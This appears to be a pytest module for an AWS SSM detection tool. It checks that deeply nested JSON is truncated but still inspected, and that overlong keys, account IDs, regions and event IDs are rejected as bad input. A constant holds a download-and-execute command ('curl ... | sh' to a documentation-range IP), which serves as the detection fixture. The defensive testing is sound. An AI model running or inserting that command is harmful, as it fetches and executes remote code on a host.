"""Bounds at the edge (ssm_detect/models/bounds.py, ingest.records_in, principal.principal_of).

Deep free-form JSON is cut down and still detected; lists nested too deep and key fields too
long for DynamoDB are bad input with a reason. tests/test_hostile.py drives the same inputs
through the real handler; these pin the rules themselves, and that no real record is affected.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from detections import all_detections
from ssm_detect.findings import Finding, Severity
from ssm_detect.ingest import MAX_LIST_NESTING, BadEvent, records_in, to_event
from ssm_detect.models.bounds import (
    DEPTH_MARKER,
    MAX_KEY_PART_BYTES,
    MAX_NESTING,
    bound_nesting,
    nesting_truncated,
)
from ssm_detect.models.ssm_calls import CreateDocumentRequest, SendCommandRequest
from ssm_detect.principal import MAX_PRINCIPAL_KEY_BYTES, PrincipalKeying
from ssm_detect.render.asff import format_asff
from ssm_detect.render.local import finding_json
from ssm_detect.render.sns_message import format_sns
from ssm_detect.ssm_event import SsmEvent
from tests.builders import Runner, create_document, load_payload, load_record, send_command
from tests.conftest import EVENTS

DYNAMODB_MAX_KEY_BYTES = 2048
DOWNLOAD_EXECUTE = "curl -s http://203.0.113.9/x.sh | sh"


def nest(depth: int, leaf: object = "x") -> Any:
    value = leaf
    for level in range(depth):
        value = [value] if level % 2 else {"k": value}
    return value


def depth_of(value: object) -> int:
    """Containers on the deepest path (iterative)."""
    deepest, stack = 0, [(value, 0)]
    while stack:
        node, depth = stack.pop()
        if isinstance(node, dict | list):
            deepest = max(deepest, depth + 1)
            stack.extend(
                (c, depth + 1) for c in (node.values() if isinstance(node, dict) else node)
            )
    return deepest


def bad(record: dict[str, Any]) -> BadEvent:
    found = to_event(record, PrincipalKeying.ROLE)
    assert isinstance(found, BadEvent), found
    return found


# --- free-form JSON: cut down, never rejected ----------------------------------------------------


def test_deep_input_shallow_value_is_kept_as_is() -> None:
    value = nest(MAX_NESTING)
    assert bound_nesting(value) is value
    assert not nesting_truncated(value)


@pytest.mark.parametrize("depth", [MAX_NESTING + 1, 1_000, 100_000])
def test_deep_input_deep_value_is_cut_at_the_bound(depth: int) -> None:
    value = nest(depth)

    cut = bound_nesting(value)

    assert depth_of(cut) == MAX_NESTING
    assert nesting_truncated(cut)
    assert DEPTH_MARKER in json.dumps(cut)
    assert depth_of(value) == depth  # the input is not changed


def test_deep_input_cut_keeps_the_shallow_siblings() -> None:
    value = {"commands": [DOWNLOAD_EXECUTE, nest(500)], "workingDirectory": ["/srv/app"]}

    cut = bound_nesting(value)

    assert isinstance(cut, dict)
    assert cut["commands"][0] == DOWNLOAD_EXECUTE
    assert cut["workingDirectory"] == ["/srv/app"]


def test_deep_input_models_cut_parameters_content_and_tags() -> None:
    command = SendCommandRequest.model_validate({"parameters": {"commands": nest(1_000)}})
    document = CreateDocumentRequest.model_validate(
        {"content": {"mainSteps": nest(1_000)}, "tags": nest(300)}
    )
    plain = CreateDocumentRequest.model_validate({"content": "{}", "tags": [{"Key": "a"}]})

    assert command.truncated_fields == ("parameters",)
    assert document.truncated_fields == ("content", "tags")
    assert plain.truncated_fields == ()
    assert depth_of(command.parameters) == MAX_NESTING


def test_deep_input_send_command_with_deep_parameters_is_detected_and_says_so() -> None:
    record = send_command()
    record["requestParameters"]["parameters"] = {"commands": [DOWNLOAD_EXECUTE, nest(1_000)]}

    (finding,) = Runner().fired(record, "AWS.SSM.SendCommand")

    assert finding.context["nesting_truncated"] == ["parameters"]
    assert finding.context["parameter_findings"]  # the shallow command was still inspected
    assert finding.severity_reasons
    _renders(finding)


def test_deep_input_creation_with_deep_content_and_tags_is_detected_and_says_so() -> None:
    record = create_document()
    record["requestParameters"]["content"] = {
        "mainSteps": [{"inputs": {"runCommand": [DOWNLOAD_EXECUTE]}}, nest(1_000)]
    }
    record["requestParameters"]["tags"] = nest(300)

    (finding,) = Runner().fired(record, "AWS.SSM.RareCommandDocumentCreator")

    assert finding.context["nesting_truncated"] == ["content", "tags"]
    assert DEPTH_MARKER in finding.context["content"]
    assert DEPTH_MARKER in json.dumps(finding.context["tags"])
    assert finding.context["content_findings"]
    assert finding.severity is Severity.HIGH
    _renders(finding)


def test_deep_input_context_has_no_truncation_note_when_nothing_was_cut() -> None:
    (finding,) = Runner().fired(create_document(), "AWS.SSM.RareCommandDocumentCreator")
    assert "nesting_truncated" not in finding.context


def _renders(finding: Finding) -> None:
    """Every formatter takes it (pydantic refused to serialise 300-level tags)."""
    now = datetime(2025, 3, 10, tzinfo=UTC)
    finding.model_dump_json()
    finding_json(finding)
    format_sns(finding)
    format_asff(
        finding,
        product_arn=None,
        region="us-west-2",
        account="111122223333",
        updated_at=now,
        created_at=now,
        count=1,
    )


# --- lists in the payload: bounded, one bad event past the bound ---------------------------------


def wrapped(payload: object, lists: int) -> object:
    for _ in range(lists):
        payload = [payload]
    return payload


def test_deep_input_payload_within_the_list_bound_yields_its_record() -> None:
    payload = wrapped(load_payload("send_command_success.json"), MAX_LIST_NESTING)
    (found,) = records_in(payload)
    assert isinstance(found, dict)


@pytest.mark.parametrize("lists", [MAX_LIST_NESTING + 1, 5_000, 200_000])
def test_deep_input_payload_past_the_list_bound_is_one_bad_event(lists: int) -> None:
    payload = wrapped(load_payload("send_command_success.json"), lists)
    (found,) = records_in(payload)
    assert isinstance(found, BadEvent)
    assert "nested" in found.reason


def test_deep_input_records_lists_count_toward_the_bound() -> None:
    record = load_record("send_command_success.json")
    payload: object = record
    for _ in range(MAX_LIST_NESTING + 1):
        payload = {"Records": [payload]}
    assert [type(found) for found in records_in(payload)] == [BadEvent]
    assert list(records_in({"Records": [{"Records": [record]}]})) == [record]


def test_deep_input_siblings_of_an_over_deep_list_are_still_read() -> None:
    record = load_record("send_command_success.json")
    found = list(records_in([record, wrapped(record, 5_000), record]))
    assert [type(f) for f in found] == [dict, BadEvent, dict]


# --- key fields: too long for a DynamoDB key is bad input ----------------------------------------


def test_deep_input_principal_key_at_the_bound_parses_and_one_byte_more_does_not() -> None:
    prefix = "arn:aws:iam::111122223333:role/"
    record = load_record("send_command_success.json")
    issuer = record["userIdentity"]["sessionContext"]["sessionIssuer"]
    issuer["arn"] = prefix + "r" * (MAX_PRINCIPAL_KEY_BYTES - len(prefix))
    event = to_event(record, PrincipalKeying.ROLE)
    assert isinstance(event, SsmEvent)
    assert len(event.principal.key.encode()) == MAX_PRINCIPAL_KEY_BYTES

    issuer["arn"] += "r"
    assert "principal key" in bad(record).reason


def test_deep_input_longest_keys_fit_in_a_dynamodb_key() -> None:
    """The widest key kind (the ledger's, with the longest detection id) around a principal key
    at the bound stays under DynamoDB's 2,048 bytes, and so does a document key."""
    longest_id = max((d.metadata.id for d in all_detections()), key=len)
    part = "é" * (MAX_KEY_PART_BYTES // 2)
    ledger = f"ledger#{longest_id}#111122223333#{part}"
    document = f"document#111122223333#{part}"
    assert len(ledger.encode()) < DYNAMODB_MAX_KEY_BYTES
    assert len(document.encode()) < DYNAMODB_MAX_KEY_BYTES
    assert MAX_PRINCIPAL_KEY_BYTES <= MAX_KEY_PART_BYTES


@pytest.mark.parametrize(
    "account",
    ["9" * 3000, "11112222333", "1111222233334", "\uff11" * 12, "\u0661" * 12, "", "unknown"],
)
def test_deep_input_account_id_must_be_twelve_ascii_digits(account: str) -> None:
    """Fullwidth and Arabic-Indic digits are digits to `\\d`, not to AWS."""
    for field in ("recipient", "identity"):
        record = load_record("send_command_success.json")
        if field == "recipient":
            record["recipientAccountId"] = account
        else:
            record["userIdentity"]["accountId"] = account
        assert "accountid" in bad(record).reason.lower()


@pytest.mark.parametrize("name", ["🙂" * 1000, "D" * (MAX_KEY_PART_BYTES + 1)])
def test_deep_input_document_name_over_the_key_bound_is_bad_input(name: str) -> None:
    sent = send_command()
    sent["requestParameters"]["documentName"] = name
    created = create_document(name=name)
    described = create_document()
    described["requestParameters"].pop("name")
    described["responseElements"]["documentDescription"]["name"] = name
    for record in (sent, created, described):
        assert "bytes exceed the key bound" in bad(record).reason


@pytest.mark.parametrize("region", ["a" * 300_000, "us-west-2\n", "us-west-2/../x", "US-WEST-2"])
def test_deep_input_region_must_look_like_a_region(region: str) -> None:
    record = load_record("send_command_success.json")
    record["awsRegion"] = region
    bad(record)


@pytest.mark.parametrize("keying", list(PrincipalKeying))
def test_deep_input_every_real_event_is_within_the_bounds(keying: PrincipalKeying) -> None:
    """The fixtures are real CloudTrail records: none is cut or rejected by the bounds."""
    checked = 0
    for path in sorted(EVENTS.glob("*.json")):
        for raw in records_in(json.loads(path.read_text())):
            if not isinstance(raw, dict):
                continue
            found = to_event(raw, keying)
            if isinstance(found, BadEvent):
                assert path.name.startswith("malformed_"), (path.name, found.reason)
                continue
            if isinstance(found, SsmEvent):
                checked += 1
                call = found.call
                request = getattr(call, "request", None)
                assert not getattr(request, "truncated_fields", ()), path.name
                if "malformed" not in path.name:
                    assert not getattr(call, "malformed_fields", ()), path.name
                assert len(found.principal.key.encode()) < MAX_PRINCIPAL_KEY_BYTES // 2
    assert checked > 50


def test_event_id_longer_than_a_guid_allows_is_bad_input() -> None:
    """State sets are bounded by member count; an event id far longer than CloudTrail's
    36-character GUIDs would let them outgrow DynamoDB's item limit."""
    record = load_record("send_command_success.json")
    record["eventID"] = "e" * 64
    assert isinstance(to_event(record, PrincipalKeying.ROLE), SsmEvent)
    record["eventID"] = "e" * 65
    bad = to_event(record, PrincipalKeying.ROLE)
    assert isinstance(bad, BadEvent)
    assert "eventID" in bad.reason
